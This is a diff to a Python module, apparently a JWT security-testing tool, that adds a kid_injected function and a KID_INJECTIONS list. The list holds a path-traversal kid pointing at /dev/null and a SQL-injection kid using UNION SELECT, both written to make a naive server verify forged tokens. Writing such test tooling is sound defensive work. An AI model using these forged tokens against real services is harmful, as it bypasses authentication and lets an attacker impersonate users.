@@ -3,7 +3,8 @@
 PyJWT does the cryptography (HMAC verification, re-signing, key generation through
 ``cryptography``, JWK export). What PyJWT deliberately refuses is crafted by hand here: an
 ``alg: none`` token, a token with an edited payload but its old signature, a byte-flipped
-signature, and an HS256 token keyed with an RSA/EC public key (the algorithm-confusion attack).
+signature, an HS256 token keyed with an RSA/EC public key (the algorithm-confusion attack), and
+one keyed with the empty key that a ``kid`` pointing at ``/dev/null`` makes a naive server use.
 """
 
 from __future__ import annotations
@@ -26,6 +27,7 @@ from cryptography.hazmat.primitives.asymmetric import ec
 from jwt.algorithms import ECAlgorithm, HMACAlgorithm, RSAAlgorithm
 
 __all__ = [
+    "KID_INJECTIONS",
     "WEAK_SECRETS",
     "Jwt",
     "alg_none",
@@ -34,6 +36,7 @@ __all__ = [
     "forged_payload",
     "hs256_with_public_key",
     "jwk_injected",
+    "kid_injected",
     "parse_jwt",
     "resign",
     "weak_secret",
@@ -194,6 +197,30 @@ def jwk_injected(token: Jwt) -> str:
     return jwt.encode(
         token.claims, key, algorithm="ES256", headers={"jwk": public, "kid": "specdiff"}
     )
+
+
+KID_INJECTIONS: tuple[tuple[str, str, str], ...] = (
+    ("kid-dev-null", "../" * 12 + "dev/null", ""),
+    ("kid-sql-injection", "x' UNION SELECT 'specdiff'--", "specdiff"),
+)
+"""(purpose, ``kid``, the key that ``kid`` makes a naive server verify with): a key file read
+from ``keys_dir + kid`` that is ``/dev/null`` (empty; enough ``../`` for any directory depth), and
+a key looked up by SQL string formatting whose ``UNION`` answers the attacker's own string."""
+
+
+def kid_injected(token: Jwt, kid: str, key: str) -> str:
+    """The claims signed HS256 with ``key`` under a header whose ``kid`` is ``kid``.
+
+    PyJWT signs with a non-empty key; it refuses the empty one, so that token is crafted here.
+    """
+    if key:
+        with warnings.catch_warnings():
+            # 'specdiff' is short on purpose: the server is tricked into using it
+            warnings.filterwarnings("ignore", category=jwt.InsecureKeyLengthWarning)
+            return jwt.encode(token.claims, key, algorithm="HS256", headers={"kid": kid})
+    signing_input = f"{_json_part({'alg': 'HS256', 'typ': 'JWT', 'kid': kid})}.{token.raw_claims}"
+    signature = hmac.new(key.encode(), signing_input.encode(), hashlib.sha256).digest()
+    return f"{signing_input}.{_b64(signature)}"
 
 
 def hs256_with_public_key(token: Jwt, jwk: dict[str, Any]) -> str | None:
